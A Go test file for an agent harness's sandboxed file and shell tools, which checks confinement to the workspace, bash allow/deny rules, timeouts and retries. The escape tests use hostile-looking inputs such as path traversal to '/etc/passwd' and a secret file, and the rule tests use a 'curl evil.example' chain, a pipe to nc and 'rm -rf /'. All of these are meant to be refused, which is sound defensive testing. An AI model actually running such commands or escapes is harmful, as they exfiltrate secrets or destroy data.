package tools

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/harness-edge/harness-edge/internal/fakeclock"
	"github.com/harness-edge/harness-edge/internal/proctest"
	"github.com/harness-edge/harness-edge/runtime/clock"

	"github.com/harness-edge/harness-edge/runtime/task"
	"github.com/harness-edge/harness-edge/statefmt"
)

// Sandbox is a workspace with a secret file next to it (outside) and links that point out.
type sandbox struct {
	ws, outside string
	env         toolEnv
}

func newSandbox(t *testing.T) *sandbox {
	dir := t.TempDir()
	s := &sandbox{ws: filepath.Join(dir, "ws"), outside: filepath.Join(dir, "outside")}
	for _, d := range []string{s.ws, s.outside, filepath.Join(s.ws, "sub")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	write := func(p, content string) {
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write(filepath.Join(s.outside, "secret.txt"), "TOP SECRET\n")
	write(filepath.Join(s.ws, "notes.md"), "alpha\nbeta\ngamma\nbeta again\n")
	write(filepath.Join(s.ws, "sub", "code.go"), "package sub\n\nfunc Beta() {}\n")
	must := func(err error) {
		if err != nil {
			t.Fatal(err)
		}
	}
	must(os.Symlink(filepath.Join(s.outside, "secret.txt"), filepath.Join(s.ws, "link-file")))
	must(os.Symlink(s.outside, filepath.Join(s.ws, "link-dir")))
	must(os.Symlink("../outside", filepath.Join(s.ws, "rel-link-dir")))
	s.env = toolEnv{workspace: s.ws, cfg: &task.ToolConfig{MaxOutput: task.DefaultMaxOutput}, clock: clock.RealClock{}}
	return s
}

func (s *sandbox) run(name string, args map[string]any) statefmt.ToolResult {
	return runBuiltin(context.Background(), s.env, name, args)
}

// OutsideUntouched checks the directory outside the workspace holds only the secret, unchanged.
func (s *sandbox) outsideUntouched(t *testing.T) {
	t.Helper()
	entries, err := os.ReadDir(s.outside)
	if err != nil {
		t.Fatal(err)
	}
	if len(entries) != 1 || entries[0].Name() != "secret.txt" {
		t.Fatalf("something was written outside the workspace: %v", entries)
	}
	if b, _ := os.ReadFile(filepath.Join(s.outside, "secret.txt")); string(b) != "TOP SECRET\n" {
		t.Fatalf("the file outside the workspace changed: %q", b)
	}
}

func TestBuiltinsWorkInsideTheWorkspace(t *testing.T) {
	s := newSandbox(t)
	check := func(name string, args map[string]any, want string) {
		t.Helper()
		res := s.run(name, args)
		if !res.Success || res.Output != want {
			t.Errorf("%s %v = %+v, want output %q", name, args, res, want)
		}
	}
	check("read_file", map[string]any{"path": "notes.md", "offset": 2, "limit": 2}, "beta\ngamma\n")
	check("write_file", map[string]any{"path": "new/dir/f.txt", "content": "hello"}, "wrote 5 bytes to new/dir/f.txt")
	check("read_file", map[string]any{"path": "new/dir/f.txt"}, "hello")
	check("edit_file", map[string]any{"path": "notes.md", "old": "gamma", "new": "GAMMA"}, "replaced 1 occurrence(s) in notes.md")
	if res := s.run("edit_file", map[string]any{"path": "notes.md", "old": "beta", "new": "B"}); res.Success || !strings.Contains(res.Error, "2 times") {
		t.Errorf("ambiguous edit: %+v", res)
	}
	if res := s.run("edit_file", map[string]any{"path": "notes.md", "old": "delta", "new": "D"}); res.Success || !strings.Contains(res.Error, "does not contain") {
		t.Errorf("missing text: %+v", res)
	}
	check("edit_file", map[string]any{"path": "notes.md", "old": "beta", "new": "B", "all": true}, "replaced 2 occurrence(s) in notes.md")
	check("read_file", map[string]any{"path": "notes.md"}, "alpha\nB\nGAMMA\nB again\n")
	check("glob", map[string]any{"pattern": "**/*.go"}, "sub/code.go\n")
	check("glob", map[string]any{"pattern": "*.md"}, "notes.md\n")
	check("grep", map[string]any{"pattern": "(?i)beta", "glob": "*.go"}, "sub/code.go:3:func Beta() {}\n")
	check("grep", map[string]any{"pattern": "^B", "path": "."}, "notes.md:2:B\nnotes.md:4:B again\n")
	if res := s.run("read_file", map[string]any{"path": 7}); res.Success || !strings.Contains(res.Error, "must be a string") {
		t.Errorf("bad argument type: %+v", res)
	}
	if res := s.run("grep", map[string]any{"pattern": "("}); res.Success || !strings.Contains(res.Error, "pattern") {
		t.Errorf("bad regexp: %+v", res)
	}
	// Output is capped and marked truncated.
	s.env.cfg = &task.ToolConfig{MaxOutput: 8}
	if res := s.run("read_file", map[string]any{"path": "notes.md"}); !res.Success || !res.Truncated || res.Output != "alpha\nB\n" {
		t.Errorf("capped read: %+v", res)
	}
	s.outsideUntouched(t)
}

// Every way out of the workspace is refused: "..", absolute paths, symlinks to files and
// directories outside (absolute and relative), for every file tool.
func TestBuiltinsRefuseEscapes(t *testing.T) {
	s := newSandbox(t)
	secret := filepath.Join(s.outside, "secret.txt")
	paths := []string{"../outside/secret.txt", "sub/../../outside/secret.txt", secret, "link-file", "link-dir/secret.txt", "rel-link-dir/secret.txt", "/etc/passwd"}
	for _, p := range paths {
		for _, c := range []struct {
			tool string
			args map[string]any
		}{
			{"read_file", map[string]any{"path": p}},
			{"write_file", map[string]any{"path": p, "content": "pwned"}},
			{"write_file", map[string]any{"path": filepath.Join(filepath.Dir(p), "new.txt"), "content": "pwned"}},
			{"edit_file", map[string]any{"path": p, "old": "TOP", "new": "PWNED"}},
			{"grep", map[string]any{"pattern": "SECRET", "path": filepath.Dir(p)}},
		} {
			if c.args["path"] == "new.txt" {
				continue // next to link-file, in the workspace itself: allowed
			}
			res := s.run(c.tool, c.args)
			if res.Success && res.Output != "" {
				t.Errorf("%s %v escaped the workspace: %+v", c.tool, c.args, res)
			}
			if strings.Contains(res.Output, "TOP SECRET") {
				t.Errorf("%s %v read the secret", c.tool, c.args)
			}
		}
	}
	for _, pattern := range []string{"../outside/*", "/etc/*", "link-dir/*", "rel-link-dir/*", "**/secret.txt"} {
		res := s.run("glob", map[string]any{"pattern": pattern})
		if strings.Contains(res.Output, "secret") {
			t.Errorf("glob %q reached outside: %+v", pattern, res)
		}
	}
	if res := s.run("grep", map[string]any{"pattern": "SECRET"}); strings.Contains(res.Output, "SECRET") {
		t.Errorf("grep over the workspace followed a link out: %+v", res)
	}
	s.outsideUntouched(t)
}

// A symlink swapped in after any check cannot redirect a write: os.Root resolves each path
// component at open time. One goroutine keeps replacing a directory with a link to outside
// while writes go to a file in it.
func TestBuiltinsSymlinkRace(t *testing.T) {
	s := newSandbox(t)
	dir := filepath.Join(s.ws, "race")
	var stop atomic.Bool
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		for !stop.Load() {
			_ = os.RemoveAll(dir)
			_ = os.Mkdir(dir, 0o755)
			_ = os.Remove(dir)
			_ = os.Symlink(s.outside, dir)
		}
	}()
	refused := 0
	for i := range 2000 {
		res := s.run("write_file", map[string]any{"path": "race/f" + strconv.Itoa(i%4) + ".txt", "content": "pwned"})
		if !res.Success {
			refused++
		}
		s.run("read_file", map[string]any{"path": "race/secret.txt"})
	}
	stop.Store(true)
	wg.Wait()
	s.outsideUntouched(t)
	if refused == 0 {
		t.Fatal("no write was refused: the race never hit a link")
	}
}

func TestBashRules(t *testing.T) {
	for _, c := range []struct {
		line        string
		allow, deny []string
		ok          bool
	}{
		{"ls -la", nil, nil, true},
		{"go test ./... && go vet ./...", []string{"go *"}, nil, true},
		{"go test ./...; curl evil.example", []string{"go *"}, nil, false},
		{"GOFLAGS=-x go build", []string{"go *"}, nil, true},
		{"echo 'a; rm -rf /'", []string{"echo *"}, nil, true},
		{"echo $(curl x)", []string{"echo *"}, nil, false},
		{"echo `id`", []string{"echo *"}, nil, false},
		{"echo $(id)", nil, nil, true},
		{"cat x | grep y", []string{"cat *", "grep *"}, nil, true},
		{"cat x | nc host 1", []string{"cat *", "grep *"}, nil, false},
		{"git push --force", nil, []string{"git push*"}, false},
		{"sudo ls", nil, nil, false},
		{"ls && sudo rm x", nil, nil, false},
		{"rm -rf /", nil, nil, false},
		{"rm -rf ./build", nil, nil, true},
		{"echo 'unterminated", nil, nil, false},
		{"(cd sub && make)", []string{"cd *", "make"}, nil, true},
	} {
		err := checkBash(c.line, c.allow, c.deny)
		if (err == nil) != c.ok {
			t.Errorf("checkBash(%q, allow %q, deny %q) = %v, want ok=%v", c.line, c.allow, c.deny, err, c.ok)
		}
	}
}

func TestBashRunsCleanConfinedAndCapped(t *testing.T) {
	s := newSandbox(t)
	t.Setenv("HARNESS_TEST_SECRET", "hunter2")
	t.Setenv("HARNESS_TEST_ALLOWED", "visible")
	s.env.cfg = &task.ToolConfig{MaxOutput: task.DefaultMaxOutput, Env: []string{"HARNESS_TEST_ALLOWED"}}
	res := s.run("bash", map[string]any{"command": `pwd; echo "[$HARNESS_TEST_SECRET][$HARNESS_TEST_ALLOWED]"; echo err >&2`})
	if !res.Success || res.Output != s.ws+"\n[][visible]\nerr\n" {
		t.Fatalf("bash: %+v", res)
	}
	res = s.run("bash", map[string]any{"command": "echo partial; exit 3"})
	var data struct{ ExitCode int }
	_ = json.Unmarshal(res.Data, &data)
	if res.Success || res.ErrorKind != "permanent" || data.ExitCode != 3 || res.Output != "partial\n" {
		t.Fatalf("failing command: %+v", res)
	}
	if res := s.run("bash", map[string]any{"command": "exit 75"}); res.ErrorKind != "transient" {
		t.Fatalf("exit 75: %+v", res)
	}
	if res := s.run("bash", map[string]any{"command": "sudo true"}); res.ErrorKind != "permission" {
		t.Fatalf("denied command: %+v", res)
	}
	s.env.cfg = &task.ToolConfig{MaxOutput: 100, Allow: []string{"yes *", "head *"}}
	res = s.run("bash", map[string]any{"command": "yes abc | head -c 100000"})
	if !res.Success || !res.Truncated || len(res.Output) != 100 {
		t.Fatalf("capped output: success=%v truncated=%v len=%d", res.Success, res.Truncated, len(res.Output))
	}
	if res := s.run("bash", map[string]any{"command": "ls"}); res.ErrorKind != "permission" || !strings.Contains(res.Error, "no allow rule") {
		t.Fatalf("command outside the allow rules: %+v", res)
	}
}

// WaitFile waits (in real time) for a file to hold a line.
func waitFile(t *testing.T, p string) string {
	t.Helper()
	for range 500 {
		if b, err := os.ReadFile(p); err == nil && strings.HasSuffix(string(b), "\n") {
			return strings.TrimSpace(string(b))
		}
		time.Sleep(10 * time.Millisecond)
	}
	t.Fatalf("%s never appeared", p)
	return ""
}

// A timeout on the injected clock cancels for real: the whole process group (here a background
// grandchild too) is killed and the record says timeout.
func TestTimeoutKillsTheProcessGroup(t *testing.T) {
	for _, kind := range []string{"bash", "command"} {
		t.Run(kind, func(t *testing.T) {
			s := newSandbox(t)
			clk := fakeclock.New()
			s.env.clock = clk
			script := `sleep 300 & echo $! > bg.pid; sleep 300`
			done := make(chan statefmt.ToolResult)
			go func() {
				if kind == "bash" {
					done <- runBuiltin(context.Background(), s.env, "bash", map[string]any{"command": script, "timeout": "30s"})
					return
				}
				s.env.cfg = &task.ToolConfig{Command: []string{"sh", "-c", script}, Timeout: task.Duration{Duration: 30 * time.Second}, MaxOutput: 1 << 10}
				done <- runCommandTool(context.Background(), s.env, map[string]any{})
			}()
			pid, _ := strconv.Atoi(waitFile(t, filepath.Join(s.ws, "bg.pid")))
			if !proctest.PidAlive(pid) {
				t.Fatal("the background process is not running")
			}
			clk.Advance(29 * time.Second)
			select {
			case res := <-done:
				t.Fatalf("finished before its timeout: %+v", res)
			case <-time.After(50 * time.Millisecond):
			}
			clk.Advance(2 * time.Second)
			res := <-done
			if res.Success || res.ErrorKind != "timeout" {
				t.Fatalf("result %+v, want a timeout", res)
			}
			for range 200 {
				if !proctest.PidAlive(pid) {
					return
				}
				time.Sleep(10 * time.Millisecond)
			}
			t.Fatalf("background process %d survived the timeout", pid)
		})
	}
}

func TestCommandToolProtocol(t *testing.T) {
	s := newSandbox(t)
	t.Setenv("HARNESS_TEST_SECRET", "hunter2")
	tool := func(script string) statefmt.ToolResult {
		s.env.cfg = &task.ToolConfig{Command: []string{"sh", "-c", script}, Timeout: task.Duration{Duration: time.Minute}, MaxOutput: 1 << 10}
		return runCommandTool(context.Background(), s.env, map[string]any{"n": 2, "who": "x"})
	}
	res := tool(`read in; printf '{"got": %s, "secret": "%s"}' "$in" "$HARNESS_TEST_SECRET"`)
	if !res.Success || string(res.Data) != `{"got":{"n":2,"who":"x"},"secret":""}` {
		t.Fatalf("JSON in and out: %+v (%s)", res, res.Data)
	}
	if res := tool(`echo busy >&2; exit 75`); res.Success || res.ErrorKind != "transient" || res.Error != "busy" {
		t.Fatalf("exit 75: %+v", res)
	}
	if res := tool(`echo "no such thing" >&2; exit 2`); res.Success || res.ErrorKind != "permanent" || res.Error != "no such thing" {
		t.Fatalf("exit 2: %+v", res)
	}
}

// Transient failures are retried up to the limit, each wait at least twice the one before;
// permanent ones are not retried.
func TestRunWithRetries(t *testing.T) {
	s := newSandbox(t)
	clk := fakeclock.New()
	three := 3
	tk := &task.Task{Workspace: task.Workspace{Path: s.ws}, Retry: task.RetryConfig{MaxRetries: &three, Base: task.Duration{Duration: time.Second}, Factor: 2, MaxDelay: task.Duration{Duration: time.Hour}},
		Tools: map[string]*task.ToolConfig{
			"flaky": {Command: []string{"sh", "-c", `n=$(cat count 2>/dev/null || echo 0); echo $((n+1)) > count; [ $n -ge 2 ] || exit 75; echo ok`}, Timeout: task.Duration{Duration: time.Minute}, MaxOutput: 1024},
			"down":  {Command: []string{"sh", "-c", `echo down >&2; exit 75`}, Timeout: task.Duration{Duration: time.Minute}, MaxOutput: 1024},
			"bad":   {Command: []string{"sh", "-c", `echo bad >&2; exit 1`}, Timeout: task.Duration{Duration: time.Minute}, MaxOutput: 1024},
		}}
	res, retries := runWithRetries(context.Background(), tk, clk, "flaky", nil)
	if sleeps := clk.Sleeps(); !res.Success || retries != 2 || len(sleeps) != 2 {
		t.Fatalf("flaky: %+v after %d retries, sleeps %v", res, retries, sleeps)
	}
	res, retries = runWithRetries(context.Background(), tk, clk, "down", nil)
	sleeps := clk.Sleeps()
	if res.Success || retries != 3 || len(sleeps) != 3 {
		t.Fatalf("down: %+v after %d retries, sleeps %v", res, retries, sleeps)
	}
	for i, d := range sleeps {
		if i == 0 && (d < time.Second || d > 1200*time.Millisecond) || i > 0 && d < 2*sleeps[i-1] {
			t.Fatalf("backoff %v is not exponential from 1s", sleeps)
		}
	}
	if res, retries = runWithRetries(context.Background(), tk, clk, "bad", nil); res.Success || retries != 0 || len(clk.Sleeps()) != 0 {
		t.Fatalf("permanent failure was retried: %+v %d", res, retries)
	}
	if clk.PendingTimers() != 0 {
		t.Fatalf("%d timeout timers left running", clk.PendingTimers())
	}
}

// A workspace that does not exist yet is made by the first file tool that uses it; one whose
// path is a file is refused, and nothing is made; one whose path is a FIFO (swapped in while a
// harness ran) is refused at once: opening it to read would wait for a writer, and no
// cancellation reaches a blocked open.
func TestAFileToolMakesAMissingWorkspaceAndRefusesAFileOrAFIFO(t *testing.T) {
	dir := t.TempDir()
	env := toolEnv{workspace: filepath.Join(dir, "not", "yet"), cfg: &task.ToolConfig{MaxOutput: task.DefaultMaxOutput}, clock: clock.RealClock{}}
	if res := runBuiltin(context.Background(), env, "glob", map[string]any{"pattern": "*"}); !res.Success || res.Output != "" {
		t.Fatalf("glob in a missing workspace: %+v", res)
	}
	if info, err := os.Stat(env.workspace); err != nil || !info.IsDir() {
		t.Fatalf("the workspace was not made: %v", err)
	}
	res := runBuiltin(context.Background(), env, "write_file", map[string]any{"path": "a.txt", "content": "x"})
	if b, err := os.ReadFile(filepath.Join(env.workspace, "a.txt")); !res.Success || err != nil || string(b) != "x" {
		t.Fatalf("write_file: %+v, %q, %v", res, b, err)
	}
	file := filepath.Join(dir, "file")
	if err := os.WriteFile(file, []byte("not a directory"), 0o644); err != nil {
		t.Fatal(err)
	}
	env.workspace = file
	if res := runBuiltin(context.Background(), env, "write_file", map[string]any{"path": "a.txt", "content": "x"}); res.Success || !strings.Contains(res.Error, "workspace") {
		t.Fatalf("write_file in a workspace that is a file: %+v", res)
	}
	if b, _ := os.ReadFile(file); string(b) != "not a directory" {
		t.Fatalf("the file in the workspace's place changed: %q", b)
	}
	fifo := filepath.Join(dir, "fifo")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Fatal(err)
	}
	env.workspace = fifo
	done := make(chan statefmt.ToolResult, 1)
	go func() { done <- runBuiltin(context.Background(), env, "read_file", map[string]any{"path": "a.txt"}) }()
	select {
	case res := <-done:
		if res.Success || !strings.Contains(res.Error, "workspace") {
			t.Fatalf("read_file in a workspace that is a FIFO: %+v", res)
		}
	case <-time.After(10 * time.Second):
		f, err := os.OpenFile(fifo, os.O_WRONLY, 0) // lets the blocked open go, so the test ends
		if err == nil {
			f.Close()
		}
		t.Fatal("read_file in a workspace that is a FIFO blocked")
	}
}
